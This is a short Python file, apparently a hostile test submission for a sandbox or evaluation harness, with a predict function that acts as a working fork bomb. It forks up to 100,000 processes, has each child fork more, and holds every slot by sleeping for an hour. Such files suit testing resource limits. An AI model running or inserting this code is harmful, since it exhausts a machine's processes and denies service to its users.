"""Hostile: forks as many processes as it can, each child forking too, and keeps them."""

import os
import time


def predict(inputs, output):
    made = 0
    for _ in range(100_000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:  # a child: try to fork more, then hold on to the slot
            for _ in range(100):
                try:
                    if os.fork() == 0:
                        time.sleep(3600)
                        os._exit(0)
                except OSError:
                    break
            time.sleep(3600)
            os._exit(0)
        made += 1
    print(f"forked {made} children")
    raise BlockingIOError(11, "Resource temporarily unavailable")
